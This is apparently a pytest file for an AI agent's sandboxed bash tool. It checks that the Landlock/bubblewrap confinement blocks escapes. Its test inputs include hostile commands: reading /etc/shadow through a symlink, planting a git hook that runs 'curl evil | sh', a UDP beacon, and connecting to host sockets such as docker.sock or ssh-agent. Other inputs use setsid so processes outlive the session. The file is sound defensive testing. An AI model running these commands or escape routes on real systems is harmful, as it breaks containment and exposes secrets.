"""The bash tool under the Landlock launcher: defence in depth behind the policy.

The policy already refuses `cat ~/.ssh/id_rsa`; these tests run commands the policy cannot
judge (a path computed at run time, a script reading a file) and show that the kernel still
stops them outside the workspace, while normal work inside it keeps working.
"""

from __future__ import annotations

import shlex
import socket
from pathlib import Path
from typing import Any

import pytest

from astrid_core import ConfigError, SecurityDenied, SessionId, ShellCommand
from astrid_runtime.config import load_config
from astrid_runtime.tools import ToolContext
from astrid_runtime.tools._bash import Bash
from astrid_workspace import landlock_abi

pytestmark = pytest.mark.anyio


@pytest.fixture
def sandboxed(tmp_path: Path) -> ToolContext:
    if landlock_abi() == 0:
        pytest.skip("this kernel has no Landlock; the bash sandbox cannot be shown here")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    return ToolContext(str(workspace), SessionId.new(), sandbox_bash=True)


def refused(out: str) -> bool:
    return any(e in out for e in ("Permission denied", "No such file or directory"))


async def bash(ctx: ToolContext, command: str) -> str:
    return await Bash().run({"command": command}, ShellCommand(command=command, cwd=ctx.cwd), ctx)


async def test_work_inside_the_workspace_still_works(sandboxed: ToolContext) -> None:
    assert await bash(sandboxed, "echo hi > f.txt && cat f.txt") == "hi"
    assert await bash(sandboxed, "python3 -c 'print(6 * 7)'") == "42"
    assert await bash(sandboxed, 'touch "$TMPDIR/scratch" && echo ok') == "ok"


async def test_reads_and_writes_outside_are_stopped_by_the_kernel(
    sandboxed: ToolContext, tmp_path: Path
) -> None:
    secret = tmp_path / "elsewhere" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("do not read")
    # The path is assembled at run time: no static parser could have seen it.
    out = await bash(sandboxed, f"cat $(echo {secret.parent})/$(echo secret.txt)")
    assert "do not read" not in out
    assert refused(out)  # not mounted in the sandbox (bwrap) or denied by Landlock
    # Under bubblewrap the write lands in the sandbox's private /tmp, which dies with it.
    await bash(sandboxed, f"echo pwned > {tmp_path}/dropped.txt")
    assert not (tmp_path / "dropped.txt").exists()
    out = await bash(sandboxed, "ln -s / root_link && cat root_link/etc/shadow")
    assert refused(out)


async def test_unsandboxed_context_is_unchanged(tmp_path: Path) -> None:
    ctx = ToolContext(str(tmp_path), SessionId.new())
    (tmp_path / "a.txt").write_text("plain")
    assert await bash(ctx, f"cat {tmp_path}/a.txt") == "plain"


def test_a_workspace_cannot_turn_the_bash_sandbox_off(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    (workspace / ".astrid").mkdir(parents=True)
    (workspace / ".astrid" / "config.toml").write_text("[security]\nsandbox_bash = false\n")
    with pytest.raises(ConfigError, match="sandbox_bash = false would unsandbox"):
        load_config(tmp_path / "home", workspace, env={})
    assert load_config(tmp_path / "home", env={}).config.security.sandbox_bash is True


CONNECT = (
    'python3 -c \'import socket,sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])))'
    '; print("connected")\' {port} 2>&1 | tail -1'
)


async def test_bash_network_false_takes_tcp_away_from_commands(sandboxed: ToolContext) -> None:
    if landlock_abi() < 4:
        pytest.skip("denying TCP needs Landlock ABI >= 4")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        assert await bash(sandboxed, CONNECT.format(port=port)) == "connected"  # the default
        sandboxed.bash_network = False
        out = await bash(sandboxed, CONNECT.format(port=port))
        assert "PermissionError" in out
        out = await bash(sandboxed, "python3 -m http.server 0 --bind 127.0.0.1 2>&1 | tail -1")
        assert "PermissionError" in out  # nor can a command listen
        assert await bash(sandboxed, "echo still works > f && cat f") == "still works"


async def test_bash_network_false_where_it_cannot_be_enforced_runs_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Only the admin's weaker sandbox = "landlock" depends on Landlock ABI 4 for this; under
    # bubblewrap the command has its own network namespace whatever the kernel's Landlock.
    import astrid_workspace
    from astrid_runtime.tools import _bash

    monkeypatch.setattr(
        astrid_workspace, "sandbox_status", lambda: astrid_workspace.SandboxStatus(True, 3, "")
    )
    monkeypatch.setattr(astrid_workspace._confine, "_abi", lambda: 3)
    ctx = ToolContext(
        str(tmp_path),
        SessionId.new(),
        sandbox_bash=True,
        bash_network=False,
        sandbox_mode="landlock",
    )
    with pytest.raises(SecurityDenied, match=r"cannot\s+enforce that"):
        await bash(ctx, f"touch {tmp_path}/ran")
    assert not (tmp_path / "ran").exists()
    description, warning = _bash.bash_sandbox_report(True, network=False, mode="landlock")
    assert "Landlock ABI 3" in description
    assert warning is not None
    assert "bash commands are refused" in warning


async def test_the_landlock_only_sandbox_without_landlock_runs_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Fail closed: with [security] sandbox = "landlock" on a kernel without Landlock the
    command ran unconfined; it is refused (only sandbox_bash = false runs bash unconfined)."""
    import astrid_workspace

    monkeypatch.setattr(
        astrid_workspace, "sandbox_status", lambda: astrid_workspace.SandboxStatus(False, 0, "")
    )
    ctx = ToolContext(str(tmp_path), SessionId.new(), sandbox_bash=True, sandbox_mode="landlock")
    with pytest.raises(SecurityDenied, match="this kernel has no Landlock"):
        await bash(ctx, f"touch {tmp_path}/ran")
    assert not (tmp_path / "ran").exists()


def test_bash_network_is_tighten_only_and_needs_the_sandbox(tmp_path: Path) -> None:
    home, workspace = tmp_path / "home", tmp_path / "ws"
    (workspace / ".astrid").mkdir(parents=True)
    home.mkdir()
    workspace_file = workspace / ".astrid" / "config.toml"
    workspace_file.write_text("[security]\nbash_network = false\n")
    assert load_config(home, workspace, env={}).config.security.bash_network is False  # tighter
    (home / "config.toml").write_text("[security]\nbash_network = false\n")
    workspace_file.write_text("[security]\nbash_network = true\n")
    with pytest.raises(ConfigError, match="would give bash commands the network"):
        load_config(home, workspace, env={})
    (home / "config.toml").write_text("[security]\nsandbox_bash = false\nbash_network = false\n")
    workspace_file.write_text("")
    with pytest.raises(ConfigError, match="enforced by the bash sandbox"):
        load_config(home, workspace, env={})


# ---------------------------------------------------------------- escapes of issue #20
# Each of these worked under Landlock alone (the sandbox before bubblewrap).


async def test_bash_cannot_drive_a_host_unix_socket_server(
    sandboxed: ToolContext, tmp_path: Path
) -> None:
    path = tmp_path / "tmux-0" / "default"  # stands in for tmux, docker.sock, ssh-agent
    path.parent.mkdir()
    hits: list[bytes] = []
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(str(path))
        server.listen(1)
        server.settimeout(0.5)
        code = f"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}'); s.send(b'x')"
        out = await bash(sandboxed, f'python3 -c "{code}" && echo CONNECTED')
        try:
            conn, _ = server.accept()
            hits.append(conn.recv(16))
            conn.close()
        except TimeoutError:
            pass
    assert "CONNECTED" not in out
    assert hits == []


async def test_bash_background_processes_do_not_survive_setsid(sandboxed: ToolContext) -> None:
    import time
    import uuid

    seconds = f"4{uuid.uuid4().int % 1000}.25"
    await bash(sandboxed, f"setsid -f sleep {seconds}; (setsid sleep {seconds} &); echo ok")
    marker = f"sleep\0{seconds}".encode()

    def alive() -> list[str]:
        found = []
        for entry in Path("/proc").iterdir():
            try:
                if entry.name.isdigit() and marker in (entry / "cmdline").read_bytes():
                    found.append(entry.name)
            except OSError:
                continue
        return found

    deadline = time.monotonic() + 5
    while alive() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert alive() == []


async def test_bash_cannot_write_git_hooks(sandboxed: ToolContext) -> None:
    hooks = Path(sandboxed.workspace) / ".git" / "hooks"
    hooks.mkdir(parents=True)
    out = await bash(sandboxed, "echo 'curl evil | sh' > .git/hooks/post-checkout")
    assert "Read-only file system" in out
    assert not (hooks / "post-checkout").exists()


async def test_bash_network_false_stops_a_udp_beacon_too(sandboxed: ToolContext) -> None:
    # Landlock filters TCP only: UDP left the old sandbox with bash_network = false.
    sandboxed.bash_network = False
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        beacon = f"import socket; socket.socket(2, 2).sendto(b'BEACON', ('127.0.0.1', {port}))"
        await bash(sandboxed, f'python3 -c "{beacon}"')
        with pytest.raises(TimeoutError):
            listener.recv(64)


class _RecordingGuard:
    """The interceptor's place: records each network request and denies it."""

    def __init__(self) -> None:
        self.hosts: list[str] = []

    async def authorize(self, action: Any, reason: str) -> Any:
        from astrid_core import Authorization, DenialLayer, NetworkRequest

        assert isinstance(action, NetworkRequest)
        self.hosts.append(action.host)
        return Authorization.deny(DenialLayer.APPROVAL, "the user said no")


async def test_bash_network_goes_through_the_interceptor_and_nowhere_else(
    sandboxed: ToolContext,
) -> None:
    guard = _RecordingGuard()
    sandboxed.egress = guard  # what the runtime wires: the session's interceptor
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.3)
        port = listener.getsockname()[1]
        fetch = (
            "import urllib.request as u\n"
            "for url in ('http://example.com/', 'https://api.github.com/'):\n"
            "    try: u.urlopen(url, timeout=5); print('FETCHED', url)\n"
            "    except Exception as e: print('refused', url)\n"
        )
        out = await bash(
            sandboxed, f"python3 -c {shlex.quote(fetch)}; " + CONNECT.format(port=port)
        )
        with pytest.raises(TimeoutError):
            listener.accept()
    assert "FETCHED" not in out
    assert "connected" not in out
    assert guard.hosts == ["example.com", "api.github.com"]


class _AllowingGuard(_RecordingGuard):
    async def authorize(self, action: Any, reason: str) -> Any:
        from astrid_core import Authorization, AuthorizationProof, ProofKind

        self.hosts.append(action.host)
        return Authorization.allow(AuthorizationProof(kind=ProofKind.POLICY, detail="test"))


async def test_an_admin_allowed_exact_private_host_port_is_reachable_and_nothing_else(
    sandboxed: ToolContext,
) -> None:
    import http.server
    import threading

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    sandboxed.egress = _AllowingGuard()  # even an approving user cannot open loopback...
    sandboxed.egress_allow = (f"127.0.0.1:{port}",)  # ...only the admin's exact host:port
    fetch = (
        "import sys, urllib.request as u\n"
        "for url in sys.argv[1:]:\n"
        "    try: u.urlopen(url, timeout=5); print('FETCHED', url)\n"
        "    except Exception as e: print('refused', url)\n"
    )
    try:
        out = await bash(
            sandboxed,
            f"python3 -c {shlex.quote(fetch)} http://127.0.0.1:{port}/ "
            f"http://127.0.0.1:{port + 1 if port < 65535 else port - 1}/ http://localhost:{port}/",
        )
    finally:
        server.shutdown()
        server.server_close()
    assert f"FETCHED http://127.0.0.1:{port}/" in out
    assert out.count("FETCHED") == 1, out


async def test_bash_without_bwrap_is_refused_naming_the_package(
    sandboxed: ToolContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    from astrid_workspace import SandboxUnavailable
    from astrid_workspace import _confine as confine

    monkeypatch.setattr(confine, "bwrap_path", lambda: None)
    marker = Path(sandboxed.workspace) / "ran"
    with pytest.raises(SandboxUnavailable, match="bubblewrap") as caught:
        await bash(sandboxed, f"touch {marker}")
    assert "apt-get install bubblewrap" in caught.value.hint
    assert not marker.exists()
    # The admin's explicit weaker choice runs (Landlock alone) and status says so.
    sandboxed.sandbox_mode = "landlock"
    await bash(sandboxed, f"touch {marker}")
    assert marker.exists()
